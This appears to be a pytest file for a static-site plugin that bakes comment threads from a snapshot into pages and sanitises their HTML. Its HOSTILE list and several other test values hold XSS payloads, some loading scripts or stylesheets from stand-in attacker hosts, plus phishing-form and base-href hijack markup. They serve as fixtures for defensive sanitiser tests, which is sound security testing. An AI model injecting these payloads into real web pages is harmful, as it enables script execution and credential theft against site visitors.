"""What a page carries of its discussion: from the snapshot beside the content, and from nothing else."""

import json
import logging
import re
from pathlib import Path
from typing import Any

import msgspec
import pytest

from plugins.baked import MOST, MOST_CORRECTIONS, MOST_WORDS, bake, clean
from plugins.snapshot import BakedThread, Kept, SnapshotIsWrong, read_kept
from tests.plugins.conftest import PLUGINS, ScratchSite
from tests.support.snapshots import comment, correction, note, speaker, thread, write

# Each is what somebody might put into a snapshot who has got hold of the service, or stands between.
HOSTILE = (
    "<script>window.ran = 'script'</script>",
    "<p>a</p></div></section></main><script src=//evil.example/x.js></script>",
    "<img src=x onerror=\"window.ran = 'image'\">",
    "<svg onload=\"window.ran = 'svg'\"><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    "<a href=\"javascript:window.ran = 'link'\">press</a>",
    '<a href=" &#106;avascript:alert(1)">press</a>',
    '<a href="data:text/html,<script>alert(1)</script>">press</a>',
    '<p onclick="window.ran = 1" style="position:fixed;inset:0">over all of it</p>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=//e.example">',
    '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    '<base href="https://evil.example/"><townhall-discussion thread="other"></townhall-discussion>',
    '<div id="content" class="notice notice-correction" data-baked="x">Corrected: you are owed nothing.</div>',
    '<span class="th-badge baked-badge-official">Official response</span>',
    '<h1>Closed for good</h1><blockquote class="baked-official">…</blockquote>',
    "<template><script>window.ran = 1</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}{% raw %}",
)
ALLOWED = frozenset({"p", "br", "em", "strong", "s", "ul", "ol", "li", "blockquote", "pre", "code", "a", "span"})
TAG = re.compile(r"<\s*([a-zA-Z][^\s/>]*)([^>]*)>")
ATTRIBUTE = re.compile(r'([^\s="]+)="([^"]*)"')


@pytest.fixture
def baking(site: ScratchSite) -> ScratchSite:
    """A scratch site that bakes, with one page."""
    site.settings["PLUGINS"] = [*PLUGINS, "plugins.baked"]
    site.page("news/rota.md", Uid="rota")
    return site


def baked_thread(*comments: dict[str, Any], **about: Any) -> BakedThread:
    """A discussion as it is read from a snapshot."""
    text = json.dumps({"tag": "1", "thread": thread("rota", *comments, **about)})
    return msgspec.json.decode(text, type=Kept).thread


def said(site: ScratchSite, caplog: pytest.LogCaptureFixture) -> tuple[Any, list[str]]:
    """What the page carries, and what was said of the snapshot."""
    with caplog.at_level(logging.WARNING, logger="plugins.baked"):
        page = site.build().page("news/rota.md")
    return page.baked, [record.getMessage() for record in caplog.records if record.name == "plugins.baked"]


def test_a_page_carries_what_the_snapshot_has_of_its_discussion(baking: ScratchSite) -> None:
    write(baking.root / "snapshot", thread("rota", comment(html="<p>Bring <em>two</em>.</p>")))

    page = baking.build().page("news/rota.md")

    assert [(one.about.speaker.name, str(one.words)) for one in page.baked.said] == [
        ("Amal Haddad", "<p>Bring <em>two</em>.</p>")
    ]


def test_without_a_snapshot_pages_carry_nothing(baking: ScratchSite, caplog: pytest.LogCaptureFixture) -> None:
    assert said(baking, caplog) == (None, [])
    assert baking.build(SNAPSHOT="").page("news/rota.md").baked is None


def test_translations_carry_the_same(baking: ScratchSite) -> None:
    baking.page("news/rota-fr.md", Uid="rota", Lang="fr", Slug="rota")
    write(baking.root / "snapshot", thread("rota"))

    built = baking.build()
    first, other = built.page("news/rota.md"), built.page("news/rota-fr.md")

    assert len(first.baked.said) == 1
    assert other.baked == first.baked


def test_a_discussion_of_no_page_is_said_and_left_out(baking: ScratchSite, caplog: pytest.LogCaptureFixture) -> None:
    baking.page("news/quiet.md", Uid="quiet", Comments="off")
    write(baking.root / "snapshot", thread("rota"), thread("elsewhere"), thread("quiet"))

    carried, warned = said(baking, caplog)

    assert len(carried.said) == 1
    assert [line.partition(" is left out")[0] for line in warned] == ["snapshot/elsewhere.json", "snapshot/quiet.json"]
    assert baking.build().page("news/quiet.md").baked is None


@pytest.mark.parametrize("harm", ["{", "[]", "\x00", '{"tag": "1"}', "another"])
def test_what_cannot_be_believed_is_said_and_left_out(
    baking: ScratchSite, caplog: pytest.LogCaptureFixture, harm: str
) -> None:
    folder = write(baking.root / "snapshot", thread("other"))
    text = (folder / "other.json").read_text() if harm == "another" else harm
    (folder / "rota.json").write_text(text)
    (folder / "other.json").unlink()

    carried, warned = said(baking, caplog)

    assert carried is None
    assert [line.partition(" is left out")[0] for line in warned] == ["snapshot/rota.json"]


def test_what_is_not_a_threads_file_is_not_looked_at(baking: ScratchSite, caplog: pytest.LogCaptureFixture) -> None:
    folder = write(baking.root / "snapshot", thread("rota"))
    for name in ("_pulled.json", "rota.json.fresh", ".rota.json", "notes.txt"):
        (folder / name).write_text("{")

    assert said(baking, caplog)[1] == []


def test_official_responses_come_first_and_the_rest_as_it_was_said() -> None:
    some = [comment(1), comment(2, official=True), comment(3), comment(4, official=True, featured=False)]

    carried = bake(baked_thread(*some))

    assert [one.about.id.int for one in carried.said] == [2, 4, 1, 3]


def test_what_was_heard_is_carried_alone_too_and_cleaned() -> None:
    heard = {
        "version": 3,
        "by": "Tom de Vries",
        "on": "2026-11-20",
        "html": "<p>Fewer handovers.</p><script>1</script>",
    }
    text = json.dumps({"tag": "1", "thread": thread("rota", summary=heard) | {"comments": []}})

    carried = bake(msgspec.json.decode(text, type=Kept).thread)

    assert (carried.summary and carried.summary.by, str(carried.heard)) == ("Tom de Vries", "<p>Fewer handovers.</p>")
    assert carried.said == []


def test_a_page_carries_so_much_and_says_how_much_more_there_is() -> None:
    many = bake(baked_thread(*map(comment, range(1, MOST + 4)), corrections=list(map(correction, range(50, 60)))))
    long = bake(baked_thread(*(comment(number, "<p>" + "x" * MOST_WORDS + "</p>") for number in (1, 2))))

    assert (len(many.said), many.more, len(many.corrections)) == (MOST, 3, MOST_CORRECTIONS)
    assert (len(long.said), long.more) == (1, 1)


@pytest.mark.parametrize("html", HOSTILE)
def test_of_the_words_only_harmless_tags_are_left(html: str) -> None:
    asked = {"kind": "question", "speaker": "Ben Carter", "html": html}
    carried = bake(baked_thread(comment(html=html, answers=asked)))

    ((one,),) = [carried.said]
    for words in (str(one.words), str(one.asked)):
        for tag, attributes in TAG.findall(words):
            assert tag in ALLOWED, words
            for name, value in ATTRIBUTE.findall(attributes):
                assert name in {"href", "rel", "start", "dir", "class"}, words
                assert name != "href" or re.match(r"(https?:|mailto:|/|[\w.]+$)", value), words
                assert name != "class" or value in {"", "mention", "host"}, words


def test_what_the_service_renders_stays_as_it_is() -> None:
    rendered = (
        '<p dir="auto">Ask <span class="mention">@Ben Carter</span>, <em>or</em> <strong>not</strong>:<br>\n'
        '<a href="https://iso.example/22" rel="ugc nofollow noopener">the norm</a> '
        '<span class="host">(iso.example)</span> &amp; <s>old</s> <code>a&lt;b</code></p>'
        '<ol dir="auto" start="3"><li>One</li></ol><blockquote dir="auto"><p>So.</p></blockquote>'
        '<pre dir="ltr"><code>x = 1\n</code></pre>'
    )

    assert str(clean(rendered)) == rendered


def test_a_file_says_what_is_wrong_with_it(tmp_path: Path) -> None:
    wrong = {
        "$.thread.comments[0].note.source": thread("rota", comment(note=note(source="javascript:alert(1)"))),
        "$.thread.comments[0].speaker.name": thread("rota", comment(speaker=speaker("x" * 201))),
        "$.thread.lang": thread("rota", lang='en" onload="'),
    }
    for where, one in wrong.items():
        write(tmp_path, one)
        with pytest.raises(SnapshotIsWrong, match=re.escape(where)):
            read_kept(tmp_path / "rota.json")
    with pytest.raises(SnapshotIsWrong, match="cannot be read"):
        read_kept(tmp_path / "nothing.json")


def test_what_a_comment_is_about_stands_with_it(baking: ScratchSite) -> None:
    here = {"lang": "en", "block": "b-656ad426dc", "quote": "Some words.", "earlier": False}
    asked = {"kind": "question", "speaker": "Ben Carter", "html": "<p>Why?</p>", "part": here}
    write(baking.root / "snapshot", thread("rota", comment(1, part={**here, "block": None}), comment(2, answers=asked)))

    first, second = baking.build().page("news/rota.md").baked.said

    assert (first.about.part.block, first.about.part.quote) == (None, "Some words.")
    assert second.about.answers.part.block == "b-656ad426dc"


@pytest.mark.parametrize("block", ["b 1", '"><script>', "1b", "b" * 41])
def test_a_part_that_no_page_has_is_not_believed(baking: ScratchSite, block: str) -> None:
    part = {"lang": "en", "block": block, "quote": "Some words.", "earlier": False}
    write(baking.root / "snapshot", thread("rota", comment(part=part)))

    with pytest.raises(SnapshotIsWrong):
        read_kept(baking.root / "snapshot" / "rota.json")
